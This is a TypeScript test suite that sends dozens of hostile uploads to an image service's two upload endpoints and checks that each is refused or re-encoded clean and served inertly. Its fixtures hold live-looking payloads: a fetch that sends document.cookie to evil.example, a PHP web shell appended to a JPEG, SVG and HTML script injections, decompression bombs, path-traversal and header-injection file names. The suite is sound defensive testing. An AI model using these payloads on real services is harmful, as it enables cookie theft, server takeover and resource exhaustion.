/**
 * A corpus of hostile uploads against both upload endpoints (sources/masks and references). Each
 * one is either refused with 4xx problem+json, storing nothing at all, or kept only as a clean
 * re-encoded image: no trailing payload, no metadata, the type taken from the bytes, and served
 * so that a browser can never run it (nosniff, a sandboxing CSP).
 */
import { env, SELF } from "cloudflare:test";
import { assetSchema, referenceUploadResultSchema } from "@contract/api";
import { beforeAll, describe, expect, it } from "vitest";
import { sniffMedia } from "../../storage/media-type";
import { ORIGIN, signUp, type TestUser } from "../helpers";
import { concat, contains, hugePngHeader, makePng } from "../images";
import { footprint, problemOf, sha256Of } from "./support";

const text = (value: string): Uint8Array => new TextEncoder().encode(value);

// ---------------------------------------------------------------------------------------------
// Building hostile bytes
// ---------------------------------------------------------------------------------------------

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const out = new Uint8Array(12 + data.length);
  const view = new DataView(out.buffer);
  view.setUint32(0, data.length);
  out.set(text(type), 4);
  out.set(data, 8);
  let crc = 0xffffffff;
  for (const byte of out.subarray(4, 8 + data.length)) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  view.setUint32(8 + data.length, (crc ^ 0xffffffff) >>> 0);
  return out;
}

async function deflate(bytes: Uint8Array): Promise<Uint8Array> {
  return new Uint8Array(
    await new Response(new Blob([bytes]).stream().pipeThrough(new CompressionStream("deflate"))).arrayBuffer(),
  );
}

/** A 64×64 PNG whose image data inflates to 24 MB: the shape of a zlib decompression bomb. */
async function pngInflatingTo(bytes: number): Promise<Uint8Array> {
  const small = await makePng(64, 64, () => [0, 0, 0]);
  const idat = pngChunk("IDAT", await deflate(new Uint8Array(bytes)));
  // Signature + IHDR (8 + 25 bytes) of the small PNG, then the bomb's IDAT, then IEND.
  return concat(small.subarray(0, 33), idat, pngChunk("IEND", new Uint8Array()));
}

const riff = (fourcc: string, payload: Uint8Array): Uint8Array => {
  const out = new Uint8Array(12 + payload.length);
  out.set(text("RIFF"), 0);
  new DataView(out.buffer).setUint32(4, 4 + payload.length, true);
  out.set(text(fourcc), 8);
  out.set(payload, 12);
  return out;
};

/** A WebP whose VP8X header claims a 16777216 × 16777216 canvas. */
function webpVp8xBomb(): Uint8Array {
  const chunk = new Uint8Array(18 + 32);
  chunk.set(text("VP8X"), 0);
  new DataView(chunk.buffer).setUint32(4, 10, true);
  chunk.set([0xff, 0xff, 0xff, 0xff, 0xff, 0xff], 12); // width-1 and height-1, 24 bits each
  return riff("WEBP", chunk);
}

/** A lossy WebP key frame header claiming 16383 × 16383. */
function webpVp8Huge(): Uint8Array {
  const chunk = new Uint8Array(8 + 10 + 32);
  chunk.set(text("VP8 "), 0);
  new DataView(chunk.buffer).setUint32(4, 10 + 32, true);
  chunk.set([0x10, 0x02, 0x00, 0x9d, 0x01, 0x2a, 0xff, 0x3f, 0xff, 0x3f], 8);
  return riff("WEBP", chunk);
}

/** A lossless WebP header claiming 16384 × 16384. */
function webpVp8lHuge(): Uint8Array {
  const chunk = new Uint8Array(8 + 5 + 32);
  chunk.set(text("VP8L"), 0);
  new DataView(chunk.buffer).setUint32(4, 5 + 32, true);
  // 0x2f signature, then width-1 (14 bits) and height-1 (14 bits), all ones.
  chunk.set([0x2f, 0xff, 0xff, 0xff, 0x0f], 8);
  return riff("WEBP", chunk);
}

/** A JPEG start-of-frame claiming `width` × `height` with no scan data. */
const jpegClaiming = (width: number, height: number): Uint8Array =>
  new Uint8Array([
    0xff,
    0xd8,
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    height >> 8,
    height & 0xff,
    width >> 8,
    width & 0xff,
    0x03,
    1,
    0x22,
    0,
    2,
    0x11,
    1,
    3,
    0x11,
    1,
    0xff,
    0xd9,
  ]);

/** A JPEG with a comment (COM) segment inserted right after the start-of-image marker. */
function jpegWithComment(jpeg: Uint8Array, comment: string): Uint8Array {
  const payload = text(comment);
  const segment = new Uint8Array(4 + payload.length);
  segment.set([0xff, 0xfe, (payload.length + 2) >> 8, (payload.length + 2) & 0xff]);
  segment.set(payload, 4);
  return concat(jpeg.subarray(0, 2), segment, jpeg.subarray(2));
}

const ZIP = concat(
  text("PK\u0003\u0004"),
  new Uint8Array(26),
  text("evil.html<html><script>alert(document.cookie)</script></html>"),
  text("PK\u0005\u0006"),
  new Uint8Array(18),
);
const HTML = text("<html><body><script>alert(document.cookie)</script></body></html>");
const SCRIPT = text("\n/*\u0000*/;fetch('https://evil.example/?c='+document.cookie);//");
const SVG = text(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>',
);
/** Strings that must never be found in what we keep. */
const MARKERS = ["PK\u0003\u0004", "<html", "<script", "alert(", "document.cookie", "<?php", "secret-location", "tEXt"];

// ---------------------------------------------------------------------------------------------
// The corpus
// ---------------------------------------------------------------------------------------------

type FilePart = { field?: string; name: string; bytes: Uint8Array; type?: string };
type Body =
  | { kind: "multipart"; files: FilePart[]; fields?: Record<string, string> }
  | { kind: "raw"; contentType: string | null; body: BodyInit | null };

type Outcome =
  /** Refused with this status, nothing stored. */
  | { refused: number }
  /** Refused with some 4xx, or stored clean: the decoder may or may not cope, both are safe. */
  | { refusedOrClean: true }
  /** Stored, cleanly re-encoded as this type. */
  | {
      clean: "image/png" | "image/jpeg" | "image/webp";
      payloadStripped?: boolean;
      originalName?: (name: string) => void;
    };

type Case = { name: string; body: () => Promise<Body>; outcome: Outcome; only?: "assets" | "references" };

let png: Uint8Array;
let jpeg: Uint8Array;
let webp: Uint8Array;

const single = (name: string, bytes: Uint8Array, type = "application/octet-stream"): Body => ({
  kind: "multipart",
  files: [{ name, bytes, type }],
});

const noControlOrBidi = (name: string) => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this looks for.
  expect(name).not.toMatch(/[\u0000-\u001f\u007f\u200e\u200f\u202a-\u202e\u2066-\u2069/\\]/);
  expect(name.length).toBeGreaterThan(0);
  expect(name.length).toBeLessThanOrEqual(200);
  expect(
    /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(name),
    "no lone surrogates",
  ).toBe(false);
};

/**
 * A multipart body written by hand, the way a script (not a browser) can send it: the file name's
 * bytes go out exactly as given. Carries `role=input` too, which references ignore.
 */
function handWritten(fileName: string, bytes: Uint8Array): Body {
  const boundary = "----handwritten";
  const head = text(
    `--${boundary}\r\nContent-Disposition: form-data; name="role"\r\n\r\ninput\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: image/png\r\n\r\n`,
  );
  return {
    kind: "raw",
    contentType: `multipart/form-data; boundary=${boundary}`,
    body: concat(head, bytes, text(`\r\n--${boundary}--\r\n`)),
  };
}

/** 21 MB sent as a stream: no Content-Length, so only counting the bytes can stop it. */
function chunkedOversize(): Body {
  const boundary = "----hostile";
  const head = text(
    `--${boundary}\r\nContent-Disposition: form-data; name="role"\r\n\r\ninput\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n`,
  );
  const tail = text(`\r\n--${boundary}--\r\n`);
  const piece = new Uint8Array(1024 * 1024).fill(0x41);
  let sent = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent === 0) controller.enqueue(concat(head, png));
      else if (sent <= 21) controller.enqueue(piece);
      else {
        controller.enqueue(tail);
        controller.close();
      }
      sent++;
    },
  });
  return { kind: "raw", contentType: `multipart/form-data; boundary=${boundary}`, body: stream };
}

const CORPUS: Case[] = [
  // Not images at all, whatever they claim.
  {
    name: "SVG with a script",
    body: async () => single("vector.svg", SVG, "image/svg+xml"),
    outcome: { refused: 415 },
  },
  { name: "SVG renamed .png", body: async () => single("innocent.png", SVG, "image/png"), outcome: { refused: 415 } },
  { name: "HTML renamed .png", body: async () => single("page.png", HTML, "image/png"), outcome: { refused: 415 } },
  {
    name: "plain text",
    body: async () => single("notes.txt", text("just some text, honestly"), "text/plain"),
    outcome: { refused: 415 },
  },
  {
    name: "PDF",
    body: async () => single("doc.png", text("%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj"), "image/png"),
    outcome: { refused: 415 },
  },
  {
    name: "GIF magic",
    body: async () =>
      single("anim.gif", concat(text("GIF89a"), new Uint8Array([16, 0, 16, 0, 0x80, 0, 0]), HTML), "image/gif"),
    outcome: { refused: 415 },
  },
  {
    name: "BMP magic",
    body: async () => single("old.bmp", concat(text("BM"), new Uint8Array(52)), "image/bmp"),
    outcome: { refused: 415 },
  },
  {
    name: "TIFF magic (little-endian)",
    body: async () => single("scan.tif", concat(text("II*\u0000"), new Uint8Array(40)), "image/tiff"),
    outcome: { refused: 415 },
  },
  {
    name: "TIFF magic (big-endian)",
    body: async () => single("scan.tiff", concat(text("MM\u0000*"), new Uint8Array(40)), "image/tiff"),
    outcome: { refused: 415 },
  },
  {
    name: "HEIC magic",
    body: async () =>
      single(
        "phone.heic",
        concat(new Uint8Array([0, 0, 0, 0x18]), text("ftypheic\u0000\u0000\u0000\u0000mif1heic"), new Uint8Array(64)),
        "image/heic",
      ),
    outcome: { refused: 415 },
  },
  {
    name: "AVIF magic",
    body: async () =>
      single(
        "new.avif",
        concat(
          new Uint8Array([0, 0, 0, 0x1c]),
          text("ftypavif\u0000\u0000\u0000\u0000avifmif1miaf"),
          new Uint8Array(64),
        ),
        "image/avif",
      ),
    outcome: { refused: 415 },
  },
  {
    name: "ICO magic",
    body: async () =>
      single("favicon.ico", concat(new Uint8Array([0, 0, 1, 0, 1, 0]), new Uint8Array(40)), "image/x-icon"),
    outcome: { refused: 415 },
  },
  {
    name: "MP4 video",
    body: async () =>
      single(
        "clip.png",
        concat(new Uint8Array([0, 0, 0, 0x18]), text("ftypisom\u0000\u0000\u0002\u0000isomiso2"), new Uint8Array(64)),
        "image/png",
      ),
    outcome: { refused: 415 },
  },

  // Polyglots: a real image carrying something else.
  {
    name: "PNG with a trailing ZIP",
    body: async () => single("poly.png", concat(png, ZIP), "image/png"),
    outcome: { clean: "image/png", payloadStripped: true },
  },
  {
    name: "PNG with trailing HTML",
    body: async () => single("poly.png", concat(png, HTML), "image/png"),
    outcome: { clean: "image/png", payloadStripped: true },
  },
  {
    name: "PNG with a trailing script",
    body: async () => single("poly.js.png", concat(png, SCRIPT), "image/png"),
    outcome: { clean: "image/png", payloadStripped: true },
  },
  {
    name: "PNG with HTML in a tEXt chunk",
    body: async () =>
      single(
        "meta.png",
        await makePng(24, 24, (x, y) => [x * 10, y * 10, 0], [pngChunk("tEXt", concat(text("Comment\u0000"), HTML))]),
        "image/png",
      ),
    outcome: { clean: "image/png", payloadStripped: true },
  },
  {
    name: "JPEG with HTML in a comment segment",
    body: async () =>
      single(
        "comment.jpg",
        jpegWithComment(jpeg, "<html><script>alert(document.cookie)</script></html>"),
        "image/jpeg",
      ),
    outcome: { clean: "image/jpeg", payloadStripped: true },
  },
  {
    name: "JPEG with a trailing ZIP",
    body: async () => single("poly.jpg", concat(jpeg, ZIP), "image/jpeg"),
    outcome: { clean: "image/jpeg", payloadStripped: true },
  },
  {
    name: "JPEG with PHP after the end marker",
    body: async () => single("shell.php.jpg", concat(jpeg, text("<?php system($_GET['c']); ?>")), "image/jpeg"),
    outcome: { clean: "image/jpeg", payloadStripped: true },
  },
  {
    name: "WebP with trailing HTML",
    body: async () => single("poly.webp", concat(webp, HTML), "image/webp"),
    outcome: { clean: "image/webp", payloadStripped: true },
  },

  // Decompression bombs and impossible sizes.
  {
    name: "PNG header claiming 30000×30000",
    body: async () => single("huge.png", hugePngHeader(30_000, 30_000), "image/png"),
    outcome: { refused: 413 },
  },
  {
    name: "PNG header claiming 12001×1 (one side too long)",
    body: async () => single("wide.png", hugePngHeader(12_001, 1), "image/png"),
    outcome: { refused: 413 },
  },
  {
    name: "PNG header claiming 8000×6000 (48 MP)",
    body: async () => single("big.png", hugePngHeader(8_000, 6_000), "image/png"),
    outcome: { refused: 413 },
  },
  {
    name: "PNG header claiming 0×0",
    body: async () => single("zero.png", hugePngHeader(0, 0), "image/png"),
    outcome: { refused: 400 },
  },
  {
    name: "PNG whose data inflates to 24 MB",
    body: async () => single("bomb.png", await pngInflatingTo(24 * 1024 * 1024), "image/png"),
    outcome: { refusedOrClean: true },
  },
  {
    name: "WebP VP8X canvas of 16777216×16777216",
    body: async () => single("bomb.webp", webpVp8xBomb(), "image/webp"),
    outcome: { refused: 413 },
  },
  {
    name: "WebP VP8 frame claiming 16383×16383",
    body: async () => single("huge.webp", webpVp8Huge(), "image/webp"),
    outcome: { refused: 413 },
  },
  {
    name: "WebP VP8L claiming 16384×16384",
    body: async () => single("huge-lossless.webp", webpVp8lHuge(), "image/webp"),
    outcome: { refused: 413 },
  },
  {
    name: "JPEG frame claiming 65535×65535",
    body: async () => single("huge.jpg", jpegClaiming(65_535, 65_535), "image/jpeg"),
    outcome: { refused: 413 },
  },
  {
    name: "JPEG frame claiming 0×0",
    body: async () => single("zero.jpg", jpegClaiming(0, 0), "image/jpeg"),
    outcome: { refused: 400 },
  },

  // Broken files.
  {
    name: "zero bytes",
    body: async () => single("empty.png", new Uint8Array(), "image/png"),
    outcome: { refused: 400 },
  },
  {
    name: "PNG cut inside its header",
    body: async () => single("cut.png", png.subarray(0, 20), "image/png"),
    outcome: { refused: 415 },
  },
  {
    name: "PNG cut after its header",
    body: async () => single("cut.png", png.subarray(0, 40), "image/png"),
    outcome: { refused: 400 },
  },
  {
    name: "PNG without its end",
    body: async () => single("cut.png", png.subarray(0, png.length - 12), "image/png"),
    outcome: { refusedOrClean: true },
  },
  {
    name: "JPEG cut in half",
    body: async () => single("cut.jpg", jpeg.subarray(0, Math.floor(jpeg.length / 2)), "image/jpeg"),
    outcome: { refusedOrClean: true },
  },
  {
    name: "JPEG of a start marker only",
    body: async () => single("soi.jpg", new Uint8Array([0xff, 0xd8, 0xff]), "image/jpeg"),
    outcome: { refused: 415 },
  },
  {
    name: "WebP cut to 40 bytes",
    body: async () => single("cut.webp", webp.subarray(0, 40), "image/webp"),
    outcome: { refusedOrClean: true },
  },
  {
    name: "RIFF WAVE renamed .webp",
    body: async () => single("sound.webp", riff("WAVE", new Uint8Array(64)), "image/webp"),
    outcome: { refused: 415 },
  },

  // Too big.
  {
    name: "21 MB with a Content-Length",
    body: async () => single("big.png", concat(png, new Uint8Array(21 * 1024 * 1024)), "image/png"),
    outcome: { refused: 413 },
  },
  { name: "21 MB chunked, no Content-Length", body: async () => chunkedOversize(), outcome: { refused: 413 } },

  // Valid images in disguise: the bytes decide.
  {
    name: "PNG sent as image/jpeg named .jpg",
    body: async () => single("photo.jpg", png, "image/jpeg"),
    outcome: { clean: "image/png" },
  },
  {
    name: "JPEG sent as text/html named .html",
    body: async () => single("page.html", jpeg, "text/html"),
    outcome: { clean: "image/jpeg" },
  },
  {
    name: "WebP sent as image/svg+xml",
    body: async () => single("x.svg", webp, "image/svg+xml"),
    outcome: { clean: "image/webp" },
  },

  // Hostile file names on a valid image.
  {
    name: "path traversal name",
    body: async () => single("../../../../etc/passwd.png", png, "image/png"),
    outcome: { clean: "image/png", originalName: (name) => expect(name).toBe("passwd.png") },
  },
  {
    name: "Windows path name",
    body: async () => single("C:\\Windows\\System32\\evil.png", png, "image/png"),
    outcome: { clean: "image/png", originalName: (name) => expect(name).toBe("evil.png") },
  },
  // The runtime's multipart parser will not read a part header with a NUL in it.
  { name: "NUL in the name", body: async () => handWritten("evil.png\u0000.html", png), outcome: { refused: 400 } },
  {
    name: "control characters and an escaped quote in the name",
    body: async () => handWritten('a\\"b\u0007\u001b[31m.png', png),
    outcome: { clean: "image/png", originalName: noControlOrBidi },
  },
  {
    name: "RTL override in the name",
    body: async () => single("holiday\u202Egnp.exe", png, "image/png"),
    outcome: {
      clean: "image/png",
      originalName: (name) => {
        noControlOrBidi(name);
        expect(name).toBe("holidaygnp.exe");
      },
    },
  },
  {
    name: "10 kB name",
    body: async () => single(`${"a".repeat(10_240)}.png`, png, "image/png"),
    outcome: { clean: "image/png", originalName: noControlOrBidi },
  },
  {
    name: "emoji name cut mid-character",
    body: async () => single(`a${"🐱".repeat(300)}.png`, png, "image/png"),
    outcome: {
      clean: "image/png",
      originalName: (name) => {
        noControlOrBidi(name);
        expect(name.startsWith("a🐱🐱")).toBe(true);
      },
    },
  },
  // What a browser sends for `x".png⏎Content-Type: text/html⏎⏎<script>…`: quotes and line breaks escaped.
  {
    name: "header injection in the name",
    body: async () =>
      handWritten("x%22.png%0D%0AContent-Type: text%2Fhtml%0D%0A%0D%0A<script>alert(1)<%2Fscript>", png),
    outcome: {
      clean: "image/png",
      originalName: (name) => {
        noControlOrBidi(name);
        expect(name).not.toMatch(/[<>"]/);
      },
    },
  },
  {
    name: "a name of dots",
    body: async () => single("..", png, "image/png"),
    outcome: { clean: "image/png", originalName: noControlOrBidi },
  },

  // Malformed requests.
  {
    name: "multipart without a file field",
    body: async () => ({ kind: "multipart", files: [], fields: { note: "no file here" } }),
    outcome: { refused: 400 },
  },
  {
    name: "file field sent as plain text",
    body: async () => ({ kind: "multipart", files: [], fields: { file: "iVBORw0KGgo=" } }),
    outcome: { refused: 400 },
  },
  {
    name: "file under another field name",
    body: async () => ({ kind: "multipart", files: [{ field: "image", name: "a.png", bytes: png }] }),
    outcome: { refused: 400 },
  },
  {
    name: "JSON body",
    body: async () => ({
      kind: "raw",
      contentType: "application/json",
      body: JSON.stringify({ file: "iVBORw0KGgo=" }),
    }),
    outcome: { refused: 415 },
  },
  {
    name: "raw PNG bytes, no multipart",
    body: async () => ({ kind: "raw", contentType: "image/png", body: png }),
    outcome: { refused: 415 },
  },
  {
    name: "form-urlencoded body",
    body: async () => ({ kind: "raw", contentType: "application/x-www-form-urlencoded", body: "file=abc&role=input" }),
    outcome: { refused: 415 },
  },
  {
    name: "no Content-Type at all",
    body: async () => ({ kind: "raw", contentType: null, body: png }),
    outcome: { refused: 415 },
  },
  {
    name: "multipart with a broken boundary",
    body: async () => ({
      kind: "raw",
      contentType: "multipart/form-data; boundary=zzz",
      body: '--aaa\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n\u0089PNG\r\n--aaa',
    }),
    outcome: { refused: 400 },
  },
  {
    name: "multipart without a boundary",
    body: async () => ({ kind: "raw", contentType: "multipart/form-data", body: png }),
    outcome: { refused: 400 },
  },
  {
    name: "eleven files at once",
    only: "references",
    body: async () => ({
      kind: "multipart",
      files: Array.from({ length: 11 }, (_, i) => ({ name: `f${i}.png`, bytes: png })),
    }),
    outcome: { refused: 413 },
  },
  {
    name: "a mask role that does not exist",
    only: "assets",
    body: async () => ({ kind: "multipart", files: [{ name: "a.png", bytes: png }], fields: { role: "output" } }),
    outcome: { refused: 400 },
  },
  {
    name: "a role full of markup",
    only: "assets",
    body: async () => ({
      kind: "multipart",
      files: [{ name: "a.png", bytes: png }],
      fields: { role: "<script>alert(1)</script>" },
    }),
    outcome: { refused: 400 },
  },
];

// ---------------------------------------------------------------------------------------------
// Running it
// ---------------------------------------------------------------------------------------------

const ENDPOINTS = [
  { label: "POST /api/assets", path: "/api/assets", fields: { role: "input" } },
  { label: "POST /api/references", path: "/api/references", fields: {} },
] as const;

async function send(user: TestUser, endpoint: (typeof ENDPOINTS)[number], body: Body): Promise<Response> {
  const headers: Record<string, string> = { Authorization: `Bearer ${user.token}` };
  if (body.kind === "raw") {
    if (body.contentType) headers["Content-Type"] = body.contentType;
    return SELF.fetch(`${ORIGIN}${endpoint.path}`, { method: "POST", headers, body: body.body });
  }
  const form = new FormData();
  for (const [name, value] of Object.entries({ ...endpoint.fields, ...body.fields })) form.set(name, value);
  for (const file of body.files)
    form.append(
      file.field ?? "file",
      new File([file.bytes], file.name, { type: file.type ?? "application/octet-stream" }),
    );
  return SELF.fetch(`${ORIGIN}${endpoint.path}`, { method: "POST", headers, body: form });
}

/** The bytes end where the format says the image ends: nothing rides along. */
function expectNothingTrailing(bytes: Uint8Array, mimeType: string): void {
  if (mimeType === "image/png") {
    expect([...bytes.subarray(bytes.length - 12)]).toEqual([
      0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
    ]);
  } else if (mimeType === "image/jpeg") {
    expect([...bytes.subarray(bytes.length - 2)]).toEqual([0xff, 0xd9]);
  } else {
    expect(new TextDecoder().decode(bytes.subarray(0, 4))).toBe("RIFF");
    expect(new DataView(bytes.buffer, bytes.byteOffset).getUint32(4, true) + 8).toBe(bytes.length);
  }
}

async function expectServedSafely(user: TestUser, url: string, mimeType: string): Promise<Uint8Array> {
  const response = await SELF.fetch(`${ORIGIN}${url}`, { headers: { Authorization: `Bearer ${user.token}` } });
  expect(response.status).toBe(200);
  expect(response.headers.get("Content-Type")).toBe(mimeType);
  expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
  expect(response.headers.get("Content-Security-Policy")).toMatch(/(^|;)\s*sandbox\b/);
  expect(response.headers.get("Content-Disposition") ?? "inline").not.toMatch(/[\r\n<>]/);
  return new Uint8Array(await response.arrayBuffer());
}

beforeAll(async () => {
  png = await makePng(40, 30, (x, y) => [x * 6, y * 8, 200]);
  jpeg = new Uint8Array(
    await (await env.IMAGES.input(new Blob([png]).stream()).output({ format: "image/jpeg", quality: 85 }))
      .response()
      .arrayBuffer(),
  );
  webp = new Uint8Array(
    await (await env.IMAGES.input(new Blob([png]).stream()).output({ format: "image/webp", quality: 85 }))
      .response()
      .arrayBuffer(),
  );
  expect(sniffMedia(jpeg)?.mimeType).toBe("image/jpeg");
  expect(sniffMedia(webp)?.mimeType).toBe("image/webp");
});

describe("the hostile upload corpus", () => {
  it("has at least thirty distinct cases", () => {
    expect(new Set(CORPUS.map((item) => item.name)).size).toBe(CORPUS.length);
    expect(CORPUS.length).toBeGreaterThanOrEqual(30);
  });

  const runs = ENDPOINTS.flatMap((endpoint) =>
    CORPUS.filter((item) => !item.only || endpoint.path.endsWith(item.only)).map(
      (item) => [endpoint.label, item.name, endpoint, item] as const,
    ),
  );

  it.each(runs)("%s: %s", async (_label, _name, endpoint, item) => {
    const user = await signUp("uploader");
    const body = await item.body();
    const before = await footprint(user.id);
    const response = await send(user, endpoint, body);
    expect(response.status, "never a server error").toBeLessThan(500);
    const outcome = item.outcome;

    if (response.status >= 400) {
      const problem = await problemOf(response);
      if ("refused" in outcome) expect(problem.status).toBe(outcome.refused);
      else expect("refusedOrClean" in outcome, `refused with ${problem.status}: ${problem.detail}`).toBe(true);
      // Nothing of it was kept: no row, no object.
      expect(await footprint(user.id)).toEqual(before);
      return;
    }

    expect(response.status, "refused cases must not be stored").toBe(201);
    expect("refused" in outcome).toBe(false);
    const json: unknown = await response.json();
    let stored: {
      url: string;
      thumbnailUrl: string;
      mimeType: string;
      sha256: string;
      width: number | null;
      height: number | null;
      originalName?: string;
    };
    if (endpoint.path === "/api/assets") {
      stored = assetSchema.parse(json);
    } else {
      const result = referenceUploadResultSchema.parse(json);
      expect(result.items).toHaveLength(1);
      stored = result.items[0]!;
    }
    const after = await footprint(user.id);
    const rows = endpoint.path === "/api/assets" ? after.assets : after.references;
    expect(rows).toHaveLength(1);

    if ("clean" in outcome) expect(stored.mimeType).toBe(outcome.clean);
    expect(["image/png", "image/jpeg", "image/webp"]).toContain(stored.mimeType);
    const bytes = await expectServedSafely(user, stored.url, stored.mimeType);
    expect(await sha256Of(bytes)).toBe(stored.sha256);
    // What we keep is an image of the declared type and size, ending where the image ends.
    const sniffed = sniffMedia(bytes);
    expect(sniffed).toEqual({ mimeType: stored.mimeType, width: stored.width, height: stored.height });
    expectNothingTrailing(bytes, stored.mimeType);
    const input = body.kind === "multipart" ? body.files[0]!.bytes : new Uint8Array();
    if ("clean" in outcome && outcome.payloadStripped) expect(await sha256Of(bytes)).not.toBe(await sha256Of(input));
    for (const marker of MARKERS) expect(contains(bytes, marker), marker).toBe(false);
    // References keep a display name; sources and masks keep none.
    if ("clean" in outcome && outcome.originalName && endpoint.path === "/api/references")
      outcome.originalName(stored.originalName!);

    // The thumbnail is just as inert.
    const thumbnail = await SELF.fetch(`${ORIGIN}${stored.thumbnailUrl}`, {
      headers: { Authorization: `Bearer ${user.token}` },
    });
    expect(thumbnail.status).toBe(200);
    expect(thumbnail.headers.get("Content-Type")).toMatch(/^image\/(png|jpeg|webp)$/);
    expect(thumbnail.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(thumbnail.headers.get("Content-Security-Policy")).toMatch(/(^|;)\s*sandbox\b/);
    const thumbBytes = new Uint8Array(await thumbnail.arrayBuffer());
    for (const marker of MARKERS) expect(contains(thumbBytes, marker), marker).toBe(false);
  });
});

describe("several files in one request", () => {
  it("a source upload keeps the first file only, cleaned", async () => {
    const user = await signUp("uploader");
    const response = await send(user, ENDPOINTS[0], {
      kind: "multipart",
      files: [
        { name: "a.png", bytes: concat(png, HTML) },
        { name: "b.svg", bytes: SVG },
        { name: "c.png", bytes: png },
      ],
    });
    expect(response.status).toBe(201);
    const after = await footprint(user.id);
    expect(after.assets).toHaveLength(1);
    expect(after.references).toEqual([]);
    const asset = assetSchema.parse(await response.json());
    expect(contains(await expectServedSafely(user, asset.url, "image/png"), "<html")).toBe(false);
  });

  it("a reference upload judges each file: the clean ones kept, the hostile ones listed with their reason", async () => {
    const user = await signUp("uploader");
    const response = await send(user, ENDPOINTS[1], {
      kind: "multipart",
      files: [
        { name: "poly.png", bytes: concat(png, ZIP) },
        { name: "evil.svg", bytes: SVG },
        { name: "bomb.webp", bytes: webpVp8xBomb() },
        { name: "page.html", bytes: HTML },
        { name: "photo.jpg", bytes: jpeg },
      ],
    });
    expect(response.status).toBe(201);
    const result = referenceUploadResultSchema.parse(await response.json());
    expect(result.items.map((item) => item.originalName)).toEqual(["poly.png", "photo.jpg"]);
    expect(result.errors.map((error) => [error.index, error.status])).toEqual([
      [1, 415],
      [2, 413],
      [3, 415],
    ]);
    const after = await footprint(user.id);
    expect(after.references).toHaveLength(2);
    for (const item of result.items) {
      const bytes = await expectServedSafely(user, item.url, item.mimeType);
      for (const marker of MARKERS) expect(contains(bytes, marker), marker).toBe(false);
    }
  });
});
